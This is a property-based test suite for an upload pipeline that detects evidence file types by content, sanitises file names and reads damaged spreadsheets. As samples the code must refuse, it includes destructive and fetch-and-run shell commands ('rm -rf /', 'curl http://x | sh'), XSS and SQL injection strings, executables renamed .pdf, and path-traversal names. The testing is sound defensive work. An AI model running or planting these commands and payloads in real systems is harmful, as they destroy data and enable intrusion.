import ExcelJS from "exceljs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { ExpectedError } from "@/lib/actions/errors";
import { readBulkSheet } from "@/lib/bulk-updates/read-bulk-sheet";
import { SHEET_COLUMNS, SHEET_NAMES } from "@/lib/bulk-updates/sheet-layout";
import { detectFileType } from "@/lib/evidence/detect-file-type";
import { prepareEvidence } from "@/lib/evidence/prepare-evidence";
import { sanitizeFileName } from "@/lib/evidence/sanitize-file-name";
import { MAX_FILE_NAME_LENGTH } from "@/lib/evidence/types";
import { translator } from "@/lib/i18n/translate";

// Hostile uploads: whatever bytes and names arrive, evidence is typed by its content (never by its
// name), stored under a harmless name, and a damaged sheet is a problem, never an exception.

const latin1 = (s: string) => [...Buffer.from(s, "latin1")];
const SIGNATURES: Record<string, number[]> = {
  pdf: latin1("%PDF-"),
  png: [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a],
  jpeg: [0xff, 0xd8, 0xff],
  gif87: latin1("GIF87a"),
  gif89: latin1("GIF89a"),
  riff: latin1("RIFF"),
  zip: [0x50, 0x4b, 0x03, 0x04],
};
const startsWith = (bytes: Uint8Array, sig: number[]) => sig.every((b, i) => bytes[i] === b);
const hasMagic = (bytes: Uint8Array) => Object.values(SIGNATURES).some((sig) => startsWith(bytes, sig));
const isStrictText = (bytes: Uint8Array) => {
  try {
    return !/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/.test(new TextDecoder("utf-8", { fatal: true }).decode(bytes));
  } catch {
    return false;
  }
};

/** Any code point, lone surrogates, and the characters a traversal or spoofing attempt uses. */
const hostileChar = fc.oneof(
  fc.string({ unit: "binary", minLength: 1, maxLength: 1 }),
  fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => String.fromCharCode(c)),
  fc.constantFrom("/", "\\", ".", "..", "\u0000", "\u001f", "\u007f", "\u202e", "\u2066", "\u200f", ":", "*", "?", "\"", "<", ">", "|", " ", "\t", "\n", "报", "告", "。"),
);
const hostileName = fc.string({ unit: hostileChar, maxLength: 400 });
/** Bytes that begin like a known type, a near miss of one, or nothing at all. */
const bytesNearMagic = fc
  .tuple(fc.constantFrom(...Object.values(SIGNATURES), latin1("%PDF"), [0x89, 0x50, 0x4e], [0xff, 0xd8], latin1("PK"), []), fc.uint8Array({ maxLength: 256 }))
  .map(([head, tail]) => new Uint8Array([...head, ...tail]));
const anyBytes = fc.oneof(fc.uint8Array({ maxLength: 2048 }), bytesNearMagic);
const KNOWN_TYPES = ["application/pdf", "image/png", "image/jpeg", "image/gif", "image/webp", "text/plain; charset=utf-8"];
const OFFICE_EXTENSIONS = ["docx", "xlsx", "pptx"];

describe("evidence type by content, under arbitrary bytes and names", () => {
  it("never throws, and every type it names is backed by that type's magic number", () => {
    fc.assert(
      fc.property(anyBytes, hostileName, (bytes, name) => {
        const type = detectFileType(bytes, name);
        if (type === null) return;
        if (type.mimeType === "application/pdf") expect(startsWith(bytes, SIGNATURES.pdf)).toBe(true);
        else if (type.mimeType === "image/png") expect(startsWith(bytes, SIGNATURES.png)).toBe(true);
        else if (type.mimeType === "image/jpeg") expect(startsWith(bytes, SIGNATURES.jpeg)).toBe(true);
        else if (type.mimeType.startsWith("application/vnd.openxmlformats")) {
          expect(startsWith(bytes, SIGNATURES.zip)).toBe(true);
          expect(OFFICE_EXTENSIONS).toContain(type.extension);
          expect(name.toLowerCase().endsWith(`.${type.extension}`)).toBe(true);
        } else if (type.mimeType.startsWith("text/plain")) expect(isStrictText(bytes)).toBe(true);
        else expect(KNOWN_TYPES).toContain(type.mimeType);
      }),
      { numRuns: 2000 },
    );
  });

  it("never calls bytes without a magic number PDF, PNG, JPEG, GIF, WebP or Office, whatever the name claims", () => {
    const claimed = fc.constantFrom("报告.pdf", "photo.png", "x.jpg", "台账.xlsx", "a.docx", "b.pptx", "setup.exe", "");
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 1024 }).filter((b) => !hasMagic(b)), claimed, (bytes, name) => {
        const type = detectFileType(bytes, name);
        // Text is the only thing bytes without a signature may be, and only if they really are text.
        if (type !== null) expect(type).toEqual({ mimeType: "text/plain; charset=utf-8", extension: "txt" });
        if (type !== null) expect(isStrictText(bytes)).toBe(true);
      }),
      { numRuns: 1000 },
    );
  });

  it("refuses Windows, Linux and macOS executables named .pdf, through the use case's own check", () => {
    // A real DOS/PE header has NUL bytes right after "MZ"; ELF starts with DEL; Mach-O and Java
    // class files start with bytes that are not UTF-8.
    const DOS_HEADER = [0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0x00, 0x00, 0xff, 0xff, 0x00, 0x00];
    const heads = [DOS_HEADER, [0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00], [0xcf, 0xfa, 0xed, 0xfe], [0xca, 0xfe, 0xba, 0xbe]];
    fc.assert(
      fc.property(fc.constantFrom(...heads), fc.uint8Array({ maxLength: 512 }), fc.constantFrom("年度报告.pdf", "photo.png", "台账.xlsx", "C:\\fakepath\\a.pdf"), (head, tail, name) => {
        const bytes = new Uint8Array([...head, ...tail]);
        expect(detectFileType(bytes, name)).toBeNull();
        const refusal = catchError(() => prepareEvidence({ fileName: name, base64: Buffer.from(bytes).toString("base64") }));
        expect(refusal).toBeInstanceOf(ExpectedError);
        expect(refusal).toMatchObject({ kind: "invalid", messageKey: "workflow.evidence.type", field: "evidence" });
      }),
      { numRuns: 300 },
    );
  });

  it("refuses a shell script or HTML named .pdf (text under a PDF's name) or as markup, and stores other text under a .txt name: never PDF or markup", () => {
    const scripts = fc.constantFrom("#!/bin/sh\nrm -rf /\n", "#!/usr/bin/env bash\ncurl http://x | sh\n", "<html><script>alert(1)</script></html>", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>");
    fc.assert(
      fc.property(scripts, fc.constantFrom("验收报告.pdf", "run.sh", "page.html", "icon.svg", "x.pdf.exe"), (text, name) => {
        const upload = { fileName: name, base64: Buffer.from(text).toString("base64") };
        if (/\.(html|svg)$/.test(name)) {
          expect(() => prepareEvidence(upload)).toThrow(expect.objectContaining({ messageKey: "workflow.evidence.markup" }));
          return;
        }
        if (name.endsWith(".pdf")) {
          expect(() => prepareEvidence(upload)).toThrow(expect.objectContaining({ messageKey: "workflow.evidence.textAsBinary" }));
          return;
        }
        const prepared = prepareEvidence(upload);
        expect(prepared.mimeType).toBe("text/plain; charset=utf-8");
        expect(prepared.fileName).toMatch(/\.txt$/);
      }),
    );
  });
});

describe("evidence file names, under arbitrary unicode", () => {
  const extensions = fc.constantFrom("pdf", "png", "jpg", "gif", "webp", "txt", "docx", "xlsx", "pptx");

  it("never keeps a directory, a traversal, a control or bidi character, and stays within the length limit", () => {
    fc.assert(
      fc.property(hostileName, extensions, (raw, extension) => {
        const name = sanitizeFileName(raw, extension);
        expect(name).not.toMatch(/[\\/]/);
        expect(name).not.toMatch(/^\./); // no ".", "..", hidden files
        expect(name).not.toMatch(/[\u0000-\u001f\u007f\u200e\u200f\u202a-\u202e\u2066-\u2069]/);
        expect(name).not.toMatch(/["*:<>?|]/);
        expect([...name].length).toBeLessThanOrEqual(MAX_FILE_NAME_LENGTH);
        expect(name.endsWith(`.${extension}`) || (extension === "jpg" && name.endsWith(".jpeg"))).toBe(true);
        expect(name.slice(0, name.lastIndexOf(".")).trim().length).toBeGreaterThan(0);
      }),
      { numRuns: 3000 },
    );
  });

  it("keeps a Chinese name readable: the stem survives, with only the dangerous characters removed", () => {
    const han = fc.string({ unit: fc.integer({ min: 0x4e00, max: 0x9fa5 }).map((c) => String.fromCodePoint(c)), minLength: 1, maxLength: 60 });
    fc.assert(
      fc.property(han, fc.constantFrom("", "C:\\fakepath\\", "../../", "/tmp/"), fc.constantFrom("", "\u202e", "\u0000"), (stem, dir, noise) => {
        expect(sanitizeFileName(`${dir}${noise}${stem}${noise}.pdf`, "pdf")).toBe(`${stem}.pdf`);
      }),
      { numRuns: 500 },
    );
    expect(sanitizeFileName("2023年洛阳市政府工作报告（定稿）.PDF", "pdf")).toBe("2023年洛阳市政府工作报告（定稿）.pdf");
  });
});

const headers = SHEET_COLUMNS.map((c) => translator("zh")(c.header));

async function validSheet(): Promise<Uint8Array> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet(SHEET_NAMES.zh);
  sheet.addRow(headers);
  sheet.addRow([1, "2023 洛阳市政府工作报告", "三(一)", "新增高标准农田", "11万亩", "2023-12-31", "", "2023-06-30", 5, "", "<script>alert(1)</script>"]);
  sheet.addRow([2, "2023 洛阳市政府工作报告", "三(二)", "城市书房", "100个", "2023-12-31", "", new Date("2023-06-30T00:00:00Z"), { formula: "1/0", result: { error: "#DIV/0!" } }, "是", { richText: [{ text: "'; DROP TABLE \"User\"; --" }] }]);
  return new Uint8Array(await workbook.xlsx.writeBuffer());
}

describe("reading an uploaded sheet, under arbitrary and damaged bytes", () => {
  it("never throws on arbitrary bytes: it answers with a problem", async () => {
    await fc.assert(
      fc.asyncProperty(anyBytes, async (bytes) => {
        const read = await readBulkSheet(new Uint8Array(bytes).buffer);
        expect(read).toHaveProperty("problem");
      }),
      { numRuns: 300 },
    );
  });

  it("never throws on a real sheet that was truncated or had bytes overwritten: rows of text, or a problem", async () => {
    const good = await validSheet();
    const read = await readBulkSheet(new Uint8Array(good).buffer);
    expect(read).toMatchObject({ rows: [{ id: "1", narrative: "<script>alert(1)</script>" }, { id: "2", asOf: "2023-06-30", actualValue: "", narrative: "'; DROP TABLE \"User\"; --" }] });
    const damage = fc.oneof(
      fc.integer({ min: 0, max: good.length - 1 }).map((n) => good.slice(0, n)),
      fc.array(fc.tuple(fc.integer({ min: 0, max: good.length - 1 }), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 40 }).map((edits) => {
        const copy = good.slice();
        for (const [at, value] of edits) copy[at] = value;
        return copy;
      }),
    );
    await fc.assert(
      fc.asyncProperty(damage, async (bytes) => {
        const result = await readBulkSheet(new Uint8Array(bytes).buffer);
        if ("problem" in result) return;
        for (const row of result.rows) {
          for (const key of ["id", "asOf", "actualValue", "done", "narrative"] as const) expect(typeof row[key]).toBe("string");
        }
      }),
      { numRuns: 150 },
    );
  });
});

function catchError(fn: () => unknown): unknown {
  try {
    fn();
  } catch (error) {
    return error;
  }
  return undefined;
}
